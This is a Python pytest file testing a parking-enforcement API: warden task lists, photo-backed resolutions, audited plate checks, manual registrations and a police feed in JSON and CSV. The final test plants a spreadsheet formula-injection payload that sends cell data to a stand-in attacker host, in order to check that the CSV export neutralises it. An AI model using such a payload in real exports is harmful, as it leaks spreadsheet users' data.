"""The warden handheld and police feed over HTTP: position, task list nearest first, take and
resolve with a photo (all or nothing), plate checks and their audit log, registrations by
hand through the POS intake, and the police feed as JSON and CSV."""

from __future__ import annotations

import csv
import io
import struct
import uuid
import zlib
from dataclasses import dataclass
from datetime import datetime, timedelta
from typing import Any

import pytest
from flask.testing import FlaskClient
from sqlalchemy import func, select
from sqlalchemy.orm import Session
from werkzeug.datastructures import FileStorage, MultiDict
from werkzeug.test import TestResponse, encode_multipart

from billing.models import ARREARS, StayFee, TariffVersion
from billing.tariffs import publish_tariff
from enforcement.citations import issue_citation
from enforcement.fines import set_fine
from enforcement.models import Citation, Task, Violation
from enforcement.models_warden import PlateCheck, TaskPhoto
from fixtures.builders import SmallDistrict, build_small_district, cds_event
from identity.staff import issue_staff_token
from parking.clock import FixedClock
from parking.models import Road, Stay
from sensors.log import logged_payloads
from sensors.models import CurbEvent
from tests.support.http import assert_problem

API = "/api/v1/testville"
PLATE = "贵A12345"
WEEK = ["mon", "tue", "wed", "thu", "fri", "sat", "sun"]
TARIFF = {
    "name": "t",
    "max_stay_minutes": 120,
    "grace_minutes": 10,
    "bands": [
        {
            "name": "all",
            "days": WEEK,
            "windows": [["00:00", "24:00"]],
            "tiers": [{"increment_minutes": 30, "amount": 300}],
        }
    ],
}
ROLES = {
    "admin": "admin one",
    "bureau": "bureau one",
    "warden": "warden one",
    "warden2": "warden two",
    "attendant": "attendant one",
    "police": "police one",
    "city": "city one",
}


def png() -> bytes:
    """A real 1x1 PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


@dataclass
class Town:
    small: SmallDistrict
    tokens: dict[str, str]
    version: TariffVersion
    now: datetime

    def auth(self, who: str = "warden") -> dict[str, str]:
        return {"Authorization": f"Bearer {self.tokens[who]}"}


@pytest.fixture
def town(db: Session, clock: FixedClock) -> Town:
    now = clock.now()
    small = build_small_district(db, now)
    version = publish_tariff(db, small.district, "standard", TARIFF, now - timedelta(days=30), now)
    set_fine(db, small.district, "overstay", 20_000)
    tokens = {
        who: issue_staff_token(db, small.district, who.rstrip("2"), name, now)[1]
        for who, name in ROLES.items()
    }
    db.commit()
    return Town(small, tokens, version, now)


def add_task(
    db: Session,
    town: Town,
    bay: str | None,
    age: timedelta,
    *,
    team: str = "warden",
    rule: str | None = "overstay",
    plate: str = PLATE,
    status: str = "open",
    taken_by: str | None = None,
) -> Task:
    """A violation (when `rule`) and its task, created `age` ago, at a bay (or nowhere)."""
    s, created = town.small, town.now - age
    place = s.bay(bay) if bay else None
    violation = None
    if rule is not None and place is not None:
        violation = Violation(
            district_id=s.district.id,
            rule=rule,
            stay_id=uuid.uuid4().int % 2**31,
            bay_id=place.id,
            road_id=place.road_id,
            plate=plate,
            stay_started_at=created - timedelta(hours=2),
            started_at=created,
            detected_at=created,
            evidence={"event_ids": [str(uuid.uuid4())], "tariff": "standard"},
        )
        db.add(violation)
        db.flush()
    task = Task(
        district_id=s.district.id,
        key=f"test:{uuid.uuid4()}",
        team=team,
        kind="check_overstay" if violation else "collect_arrears",
        violation_id=violation.id if violation else None,
        bay_id=place.id if place else None,
        road_id=place.road_id if place else None,
        lat=place.lat if place else None,
        lng=place.lng if place else None,
        details={},
        status=status,
        created_at=created,
        escalated_at=created + timedelta(minutes=30) if status == "escalated" else None,
        taken_by=taken_by,
        taken_at=created if taken_by else None,
    )
    db.add(task)
    db.commit()
    return task


def resolve(
    client: FlaskClient, town: Town, task: Task, outcome: str, photo: bytes | None = None, who: str = "warden"
) -> TestResponse:
    data: dict[str, Any] = {"outcome": outcome, "note": "seen at the curb"}
    if photo is not None:
        data["photo"] = FileStorage(io.BytesIO(photo), "photo.png")
    # Encoded in memory: the test client would spool a large body to a temporary file it never closes.
    boundary, body = encode_multipart(MultiDict(data))
    return client.post(
        f"{API}/tasks/{task.uuid}/resolve",
        data=body,
        headers=town.auth(who),
        content_type=f"multipart/form-data; boundary={boundary}",
    )


def count(db: Session, model: Any) -> int:
    return db.scalar(select(func.count()).select_from(model)) or 0


# --- position and sign-in check


def test_a_reported_position_is_kept_and_shown_with_my_name_role_and_team(
    client: FlaskClient, town: Town
) -> None:
    me = client.get(f"{API}/staff/me", headers=town.auth()).get_json()
    assert me == {
        "name": "warden one",
        "role": "warden",
        "team": "warden",
        "position": None,
        "now": town.now.isoformat(),  # the server's clock, for an offline handheld's times
    }
    answer = client.post(f"{API}/staff/position", json={"lat": 26.684, "lng": 106.63}, headers=town.auth())
    assert answer.status_code == 200
    me = client.get(f"{API}/staff/me", headers=town.auth()).get_json()
    assert me["position"]["lat"] == 26.684 and me["position"]["reported_at"].startswith("2026-03-02T02:00")
    assert_problem(
        client.post(f"{API}/staff/position", json={"lat": 91, "lng": 0}, headers=town.auth()),
        400,
        "invalid_parameters",
    )
    assert_problem(client.get(f"{API}/staff/me"), 401, "unauthorized")


# --- the task list


def test_tasks_come_nearest_first_then_oldest_and_only_my_teams_or_mine(
    client: FlaskClient, db: Session, town: Town
) -> None:
    far_old = add_task(db, town, "T1-1", timedelta(hours=3))
    near_new = add_task(db, town, "T2-4", timedelta(minutes=5))
    near_old = add_task(db, town, "T2-4", timedelta(minutes=50), status="escalated")
    placeless = add_task(db, town, None, timedelta(hours=5), rule=None)
    taken_by_other = add_task(db, town, "T2-1", timedelta(minutes=1), status="taken", taken_by="warden two")
    mine_elsewhere = add_task(
        db, town, "T1-4", timedelta(minutes=9), team="attendant", status="taken", taken_by="warden one"
    )
    add_task(db, town, "T2-2", timedelta(minutes=2), team="attendant")  # not my team
    add_task(db, town, "T2-3", timedelta(minutes=2), status="resolved")  # done
    client.post(f"{API}/staff/position", json={"lat": 26.684, "lng": 106.6302}, headers=town.auth())

    tasks = client.get(f"{API}/tasks", headers=town.auth()).get_json()["tasks"]

    ids = [t["id"] for t in tasks]
    assert ids == [
        near_old.uuid,  # T2-4 (about 4 m): the older of the two first
        near_new.uuid,
        taken_by_other.uuid,  # T2-1, about 14 m away
        mine_elsewhere.uuid,  # road 1, about 445 m away
        far_old.uuid,
        placeless.uuid,  # no place: last
    ]
    first = tasks[0]
    assert first["age_minutes"] == 50 and first["distance_m"] < 10 and first["status"] == "escalated"
    assert first["violation"]["rule"] == "overstay" and first["violation"]["plate"] == PLATE
    assert first["violation"]["bay"] == "T2-4" and first["violation"]["road"] == "Zhaohui Road"
    assert first["violation"]["evidence"]["event_ids"] and first["kind"] == "check_overstay"
    assert tasks[2]["mine"] is False and tasks[3]["mine"] is True
    assert tasks[-1]["distance_m"] is None and tasks[-1]["violation"] is None

    taken = client.get(f"{API}/tasks?status=taken", headers=town.auth()).get_json()["tasks"]
    assert [t["id"] for t in taken] == [taken_by_other.uuid, mine_elsewhere.uuid]
    assert_problem(client.get(f"{API}/tasks?status=done", headers=town.auth()), 400, "invalid_parameters")


def test_without_a_position_tasks_come_oldest_first_and_admin_sees_every_team(
    client: FlaskClient, db: Session, town: Town
) -> None:
    newer = add_task(db, town, "T1-1", timedelta(minutes=5))
    older = add_task(db, town, "T2-4", timedelta(minutes=50), team="city")
    assert [t["id"] for t in client.get(f"{API}/tasks", headers=town.auth("admin")).get_json()["tasks"]] == [
        older.uuid,
        newer.uuid,
    ]
    assert [t["id"] for t in client.get(f"{API}/tasks", headers=town.auth("city")).get_json()["tasks"]] == [
        older.uuid
    ]
    assert client.get(f"{API}/tasks", headers=town.auth("police")).get_json()["tasks"] == []
    assert_problem(client.get(f"{API}/tasks", headers=town.auth("bureau")), 403, "forbidden")
    assert_problem(client.get(f"{API}/tasks"), 401, "unauthorized")


# --- take and resolve


def test_a_warden_takes_a_task_and_resolves_it_with_a_photo_and_a_citation(
    client: FlaskClient, db: Session, town: Town
) -> None:
    task = add_task(db, town, "T1-2", timedelta(minutes=40))
    taken = client.post(f"{API}/tasks/{task.uuid}/take", headers=town.auth())
    assert taken.status_code == 200
    assert taken.get_json()["status"] == "taken" and taken.get_json()["taken_by"] == "warden one"

    answer = resolve(client, town, task, "citation_issued", png())

    assert answer.status_code == 200, answer.get_json()
    body = answer.get_json()
    assert body["status"] == "resolved" and body["outcome"] == "citation_issued"
    assert body["note"] == "seen at the curb" and body["photo_url"] == f"{API}/tasks/{task.uuid}/photo"
    citation = db.scalars(select(Citation)).one()
    assert body["citation"] == citation.uuid
    assert (citation.plate, citation.amount, citation.issued_by) == (PLATE, 20_000, "warden one")
    photo = client.get(body["photo_url"], headers=town.auth("police"))
    assert photo.status_code == 200 and photo.mimetype == "image/png" and photo.data == png()
    assert_problem(client.get(body["photo_url"]), 401, "unauthorized")


def test_warned_needs_no_photo_and_a_task_without_one_has_no_photo(
    client: FlaskClient, db: Session, town: Town
) -> None:
    task = add_task(db, town, "T1-2", timedelta(minutes=40), status="taken", taken_by="warden one")
    answer = resolve(client, town, task, "warned")
    assert answer.status_code == 200 and answer.get_json()["photo_url"] is None
    assert_problem(client.get(f"{API}/tasks/{task.uuid}/photo", headers=town.auth()), 404, "no_photo")


@pytest.mark.parametrize(
    ("outcome", "photo", "status", "code"),
    [
        ("citation_issued", b"GIF89a not what we take", 400, "photo_not_image"),
        ("warned", b"", 400, "photo_not_image"),
        ("citation_issued", b"\x89PNG\r\n\x1a\n" + bytes(5 * 1024 * 1024), 413, "photo_too_large"),
        ("citation_issued", None, 400, "photo_required"),
        ("parked_nicely", None, 400, "invalid_parameters"),
    ],
)
def test_a_refused_resolution_writes_nothing(
    client: FlaskClient, db: Session, town: Town, outcome: str, photo: bytes | None, status: int, code: str
) -> None:
    task = add_task(db, town, "T1-2", timedelta(minutes=40), status="taken", taken_by="warden one")
    assert_problem(resolve(client, town, task, outcome, photo), status, code)
    db.expire_all()
    assert db.get_one(Task, task.id).status == "taken"
    assert (count(db, TaskPhoto), count(db, Citation)) == (0, 0)


def test_a_citation_that_cannot_be_issued_leaves_the_task_and_photo_unwritten(
    client: FlaskClient, db: Session, town: Town
) -> None:
    task = add_task(
        db, town, "T1-2", timedelta(minutes=40), rule="restriction", status="taken", taken_by="warden one"
    )
    assert_problem(resolve(client, town, task, "citation_issued", png()), 404, "no_fine")
    db.expire_all()
    assert db.get_one(Task, task.id).status == "taken"
    assert (count(db, TaskPhoto), count(db, Citation)) == (0, 0)


def test_resolving_twice_someone_elses_or_an_unknown_task_is_refused(
    client: FlaskClient, db: Session, town: Town
) -> None:
    mine = add_task(db, town, "T1-2", timedelta(minutes=40), status="taken", taken_by="warden one")
    theirs = add_task(db, town, "T1-3", timedelta(minutes=40), status="taken", taken_by="warden two")
    untaken = add_task(db, town, "T1-4", timedelta(minutes=40))
    assert resolve(client, town, mine, "vehicle_gone").status_code == 200
    assert_problem(resolve(client, town, mine, "vehicle_gone"), 409, "task_transition")
    assert_problem(resolve(client, town, theirs, "false_alarm", png()), 403, "not_your_task")
    assert_problem(resolve(client, town, untaken, "false_alarm"), 409, "task_transition")
    unknown = client.post(
        f"{API}/tasks/{uuid.uuid4()}/resolve",
        data={"outcome": "warned"},
        headers=town.auth(),
        content_type="multipart/form-data",
    )
    assert_problem(unknown, 404, "unknown_task")
    as_json = client.post(
        f"{API}/tasks/{theirs.uuid}/resolve", json={"outcome": "warned"}, headers=town.auth("warden2")
    )
    assert_problem(as_json, 415, "multipart_required")
    db.expire_all()
    assert db.get_one(Task, theirs.id).status == "taken" and count(db, TaskPhoto) == 0


def test_only_the_tasks_team_may_take_it_and_a_taken_task_cannot_be_taken_again(
    client: FlaskClient, db: Session, town: Town
) -> None:
    task = add_task(db, town, "T1-2", timedelta(minutes=40), team="attendant")
    assert_problem(client.post(f"{API}/tasks/{task.uuid}/take", headers=town.auth()), 403, "not_your_team")
    assert_problem(
        client.post(f"{API}/tasks/{task.uuid}/take", headers=town.auth("police")), 403, "not_your_team"
    )
    assert_problem(
        client.post(f"{API}/tasks/{task.uuid}/take", headers=town.auth("bureau")), 403, "forbidden"
    )
    assert_problem(client.post(f"{API}/tasks/{task.uuid}/take"), 401, "unauthorized")
    assert client.post(f"{API}/tasks/{task.uuid}/take", headers=town.auth("attendant")).status_code == 200
    assert_problem(
        client.post(f"{API}/tasks/{task.uuid}/take", headers=town.auth("admin")), 409, "task_transition"
    )
    assert_problem(client.post(f"{API}/tasks/{uuid.uuid4()}/take", headers=town.auth()), 404, "unknown_task")


# --- plate checks


def park(client: FlaskClient, town: Town, bay: str, start: datetime, end: datetime | None = None) -> None:
    s = town.small
    events = [cds_event(s.stake_a, s.bay(bay), "park_start", start, plate=PLATE)]
    if end is not None:
        events.append(cds_event(s.stake_a, s.bay(bay), "park_end", end))
    client.application.config["EVENT_MAX_AGE_HOURS"] = 0  # history, days back: no bound on age
    pushed = client.post(
        "/cds/testville/events/event", json=events, headers={"Authorization": f"Bearer {s.stake_a.token}"}
    )
    assert pushed.get_json()["failures"] == []


def test_a_plate_checks_meter_runs_on_the_tariff_in_force_when_the_stay_began(
    client: FlaskClient, db: Session, town: Town
) -> None:
    dearer = {
        **TARIFF,
        "bands": [{**TARIFF["bands"][0], "tiers": [{"increment_minutes": 30, "amount": 900}]}],
    }
    published = town.now - timedelta(minutes=30)
    publish_tariff(db, town.small.district, "standard", dearer, town.now - timedelta(minutes=20), published)
    db.commit()
    park(client, town, "T1-2", town.now - timedelta(minutes=45))

    answer = client.get(f"{API}/plates/贵a 12345/check", headers=town.auth())

    assert answer.status_code == 200, answer.get_json()
    assert answer.get_json()["stay"]["fee"] == {"status": "running", "amount": 600, "paid": 0}


def test_a_plate_check_answers_where_paid_arrears_violations_citations_and_is_audited(
    client: FlaskClient, db: Session, town: Town
) -> None:
    park(
        client, town, "T1-1", town.now - timedelta(days=9), town.now - timedelta(days=9) + timedelta(hours=1)
    )
    old = db.scalars(select(Stay).where(Stay.ended_at.is_not(None))).one()
    db.add(
        StayFee(
            stay_id=old.id,
            district_id=town.small.district.id,
            plate=PLATE,
            tariff_version_id=town.version.id,
            amount=600,
            currency="CNY",
            breakdown={},
            paid=0,
            status=ARREARS,
            due_by=town.now - timedelta(days=8),
            arrears_since=town.now - timedelta(days=8),
            stay_updated_at=old.updated_at,
            priced_at=town.now,
        )  # fmt: skip
    )
    park(client, town, "T1-2", town.now - timedelta(minutes=45))
    cited = add_task(db, town, "T1-3", timedelta(days=2))
    citation = issue_citation(
        db, town.small.district, db.get_one(Violation, cited.violation_id).uuid, "warden two", town.now
    )
    fresh = add_task(db, town, "T1-2", timedelta(minutes=5))
    db.commit()
    bay = town.small.bay("T1-2")

    answer = client.get(f"{API}/plates/贵a 12345/check?bay={bay.uuid}", headers=town.auth())

    assert answer.status_code == 200, answer.get_json()
    body = answer.get_json()
    assert body["plate"] == PLATE and body["parked"] is True and body["at_bay"] is True
    stay = body["stay"]
    assert (stay["bay"], stay["road"], stay["minutes"]) == ("T1-2", "Jianshan Road", 45)
    assert stay["fee"] == {"status": "running", "amount": 600, "paid": 0}  # two started half hours
    assert (body["arrears"], body["outstanding"], body["unpaid_stays"]) == (600, 600, 1)
    # Oldest first, each with its own fields (one statement reads both kinds).
    assert body["violations"] == [
        {
            "id": db.get_one(Violation, v).uuid,
            "rule": "overstay",
            "bay": b,
            "road": "Jianshan Road",
            "since": s,
        }
        for v, b, s in (
            (cited.violation_id, "T1-3", (town.now - timedelta(days=2)).isoformat()),
            (fresh.violation_id, "T1-2", (town.now - timedelta(minutes=5)).isoformat()),
        )
    ]
    assert body["citations"] == [
        {
            "id": citation.uuid,
            "rule": "overstay",
            "status": "issued",
            "amount": 20_000,
            "issued_at": town.now.isoformat(),
        }
    ]
    row = db.scalars(select(PlateCheck)).one()
    assert (row.uuid, row.staff_name, row.staff_role, row.plate, row.bay_id) == (
        body["check"],
        "warden one",
        "warden",
        PLATE,
        bay.id,
    )
    assert row.checked_at == town.now
    assert row.result == {
        "parked": True, "at_bay": True, "stay": stay["id"], "bay": "T1-2", "fee_status": "running",
        "arrears": 600, "violations": 2, "citations": 1,
    }  # fmt: skip


def test_a_plate_that_left_shows_its_last_stays_fee_and_the_check_records_my_position(
    client: FlaskClient, db: Session, town: Town
) -> None:
    park(client, town, "T1-1", town.now - timedelta(hours=2), town.now - timedelta(hours=1))
    client.post(f"{API}/staff/position", json={"lat": 26.68, "lng": 106.63}, headers=town.auth("police"))
    body = client.get(f"{API}/plates/{PLATE}/check", headers=town.auth("police")).get_json()
    assert body["parked"] is False and body["at_bay"] is None
    assert body["stay"]["fee"]["status"] == "unpriced" and body["stay"]["ended_at"] is not None
    row = db.scalars(select(PlateCheck)).one()
    assert (row.lat, row.lng, row.bay_id, row.staff_role) == (26.68, 106.63, None, "police")
    unknown = client.get(f"{API}/plates/贵Z99999/check?lat=26.7&lng=106.6", headers=town.auth()).get_json()
    assert unknown["stay"] is None and unknown["parked"] is False and unknown["violations"] == []


@pytest.mark.parametrize(
    ("path", "status", "code"),
    [
        ("/plates/%20/check", 400, "plate_required"),
        ("/plates/A!B/check", 400, "invalid_plate"),
        (f"/plates/{PLATE}/check?bay={uuid.UUID(int=1)}", 404, "unknown_bay"),
        (f"/plates/{PLATE}/check?bay=T1-1", 400, "invalid_parameters"),
        (f"/plates/{PLATE}/check?lat=26.7", 400, "invalid_parameters"),
    ],
)
def test_a_refused_plate_check_writes_no_audit_row(
    client: FlaskClient, db: Session, town: Town, path: str, status: int, code: str
) -> None:
    assert_problem(client.get(API + path, headers=town.auth()), status, code)
    assert count(db, PlateCheck) == 0


def test_plate_checks_and_their_audit_log_are_for_the_right_roles(
    client: FlaskClient, db: Session, town: Town
) -> None:
    assert_problem(client.get(f"{API}/plates/{PLATE}/check", headers=town.auth("city")), 403, "forbidden")
    assert_problem(client.get(f"{API}/plates/{PLATE}/check"), 401, "unauthorized")
    for who in ("warden", "attendant", "admin"):
        assert client.get(f"{API}/plates/{PLATE}/check", headers=town.auth(who)).status_code == 200
    client.get(f"{API}/plates/贵B67890/check", headers=town.auth())

    log = client.get(f"{API}/audit/plate-checks", headers=town.auth("bureau")).get_json()
    assert log["total"] == 4 and {c["staff"] for c in log["checks"]} == {
        "warden one",
        "attendant one",
        "admin one",
    }
    mine = client.get(
        f"{API}/audit/plate-checks?staff=warden one&plate=贵a12345", headers=town.auth("admin")
    ).get_json()
    assert mine["total"] == 1 and mine["checks"][0]["role"] == "warden"
    assert mine["checks"][0]["result"]["parked"] is False
    assert_problem(client.get(f"{API}/audit/plate-checks", headers=town.auth()), 403, "forbidden")
    assert_problem(
        client.get(f"{API}/audit/plate-checks?since=yesterday", headers=town.auth("bureau")),
        400,
        "invalid_parameters",
    )
    assert count(db, PlateCheck) == 5  # reading the log is not a check; searching it by plate is a lookup


# --- registrations by hand


def register(client: FlaskClient, town: Town, who: str = "warden", **fields: Any) -> TestResponse:
    body = {
        "bay": town.small.bay("T1-3").uuid,
        "kind": "arrival",
        "plate": "贵c 55555",
        "at": (town.now - timedelta(minutes=3)).isoformat(),
        "client_id": str(uuid.UUID(int=42)),
        "device": town.small.pos.device.uuid,
        **fields,
    }
    return client.post(
        f"{API}/registrations", json={k: v for k, v in body.items() if v is not None}, headers=town.auth(who)
    )


def test_a_registration_becomes_one_in_person_event_however_often_it_is_uploaded(
    client: FlaskClient, db: Session, town: Town
) -> None:
    first = register(client, town)
    assert first.status_code == 201, first.get_json()
    assert first.get_json()["result"] == "created" and first.get_json()["event_type"] == "park_start"
    again = register(client, town)
    assert again.status_code == 200 and again.get_json()["result"] == "duplicate"
    event = db.scalars(select(CurbEvent).where(CurbEvent.event_id == str(uuid.UUID(int=42)))).one()
    assert (event.data_source_type, event.device_id, event.plate) == (
        "in_person",
        town.small.pos.device.id,
        "贵C55555",
    )
    assert logged_payloads(db, CurbEvent.id == event.id)[event.event_id]["custom_attributes"] == {
        "registered_by": "warden one"
    }
    stay = db.scalars(select(Stay).where(Stay.bay_id == town.small.bay("T1-3").id)).one()
    assert stay.plate == "贵C55555" and stay.ended_at is None

    departure_id = str(uuid.uuid4())
    assert (
        register(client, town, kind="departure", plate=None, at=None, client_id=departure_id).status_code
        == 201
    )
    resend = register(client, town, kind="departure", plate=None, at=None, client_id=departure_id)
    assert resend.get_json()["result"] == "duplicate"  # no `at`: the first upload's time stands
    db.expire_all()
    assert db.get_one(Stay, stay.id).ended_at == town.now
    assert count(db, CurbEvent) == 2


@pytest.mark.parametrize(
    ("fields", "status", "code"),
    [
        ({"bay": "T2-1"}, 422, "bay_not_covered"),
        ({"device": "stake_a"}, 422, "device_not_pos"),
        ({"device": str(uuid.UUID(int=7))}, 404, "unknown_device"),
        ({"bay": str(uuid.UUID(int=7))}, 422, "unknown_bay"),
        ({"kind": "plate", "plate": " "}, 400, "plate_required"),
        ({"plate": "A!B"}, 400, "invalid_plate"),
        ({"client_id": "not-a-uuid"}, 400, "invalid_parameters"),
        ({"at": "2026-03-02T10:00:00"}, 400, "invalid_parameters"),
        ({"at": "2026-03-02T10:30:00+08:00"}, 422, "event_in_future"),
    ],
)
def test_a_refused_registration_writes_nothing(
    client: FlaskClient, db: Session, town: Town, fields: dict[str, str], status: int, code: str
) -> None:
    s = town.small
    named = {"T2-1": s.bay("T2-1").uuid, "stake_a": s.stake_a.device.uuid}
    assert_problem(register(client, town, **{k: named.get(v, v) for k, v in fields.items()}), status, code)
    assert count(db, CurbEvent) == 0


def test_the_same_client_id_with_other_content_is_a_conflict_and_roles_are_checked(
    client: FlaskClient, db: Session, town: Town
) -> None:
    assert register(client, town).status_code == 201
    assert_problem(register(client, town, plate="贵D11111"), 422, "event_id_conflict")
    assert_problem(register(client, town, who="police"), 403, "forbidden")
    assert_problem(client.post(f"{API}/registrations", json={}), 401, "unauthorized")
    assert count(db, CurbEvent) == 1


# --- the police feed


def test_the_police_feed_lists_police_and_escalated_tasks_with_evidence_as_json_and_csv(
    client: FlaskClient, db: Session, town: Town
) -> None:
    police = add_task(db, town, "T2-1", timedelta(minutes=20), team="police", rule="restriction")
    escalated = add_task(db, town, "T1-2", timedelta(hours=1), status="escalated")
    add_task(db, town, "T1-3", timedelta(hours=1))  # a warden task nobody escalated
    add_task(db, town, "T1-4", timedelta(days=3), team="police")  # before `since`
    escalated.status, escalated.taken_by = "taken", "warden one"
    db.commit()
    assert resolve(client, town, escalated, "citation_issued", png()).status_code == 200
    since = (town.now - timedelta(hours=2)).isoformat()

    feed = client.get(f"{API}/police/feed", query_string={"since": since}, headers=town.auth("police"))

    assert feed.status_code == 200, feed.get_json()
    items = feed.get_json()["items"]
    assert [i["task"] for i in items] == [escalated.uuid, police.uuid]
    evidence = items[0]["evidence"]
    assert evidence["plate"] == PLATE and evidence["bay"] == "T1-2" and evidence["rule"] == "overstay"
    assert evidence["road"] == "Jianshan Road" and len(evidence["event_ids"]) == 1 and evidence["since"]
    assert evidence["photo_url"] == f"{API}/tasks/{escalated.uuid}/photo"
    assert items[1]["evidence"]["photo_url"] is None and items[1]["evidence"]["rule"] == "restriction"

    as_csv = client.get(
        f"{API}/police/feed", query_string={"since": since, "format": "csv"}, headers=town.auth("admin")
    )
    assert as_csv.status_code == 200 and as_csv.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(as_csv.get_data(as_text=True))))
    assert [r["task"] for r in rows] == [escalated.uuid, police.uuid]
    assert rows[0]["plate"] == PLATE and rows[0]["event_ids"] == evidence["event_ids"][0]
    assert rows[0]["photo_url"] == evidence["photo_url"] and rows[1]["photo_url"] == ""

    default = client.get(f"{API}/police/feed", headers=town.auth("police")).get_json()
    assert len(default["items"]) == 2  # the last 24 hours
    assert_problem(client.get(f"{API}/police/feed", headers=town.auth()), 403, "forbidden")
    assert_problem(client.get(f"{API}/police/feed"), 401, "unauthorized")
    assert_problem(
        client.get(f"{API}/police/feed?format=xml", headers=town.auth("police")), 400, "invalid_parameters"
    )


def test_a_road_name_that_a_spreadsheet_would_run_as_a_formula_is_quoted_in_the_police_csv(
    client: FlaskClient, db: Session, town: Town
) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    add_task(db, town, "T2-1", timedelta(minutes=20), team="police", rule="restriction")
    db.get(Road, town.small.bay("T2-1").road_id).name = formula  # type: ignore[union-attr]
    db.commit()

    as_csv = client.get(f"{API}/police/feed", query_string={"format": "csv"}, headers=town.auth("police"))

    rows = list(csv.DictReader(io.StringIO(as_csv.get_data(as_text=True))))
    assert [r["road"] for r in rows] == ["'" + formula]
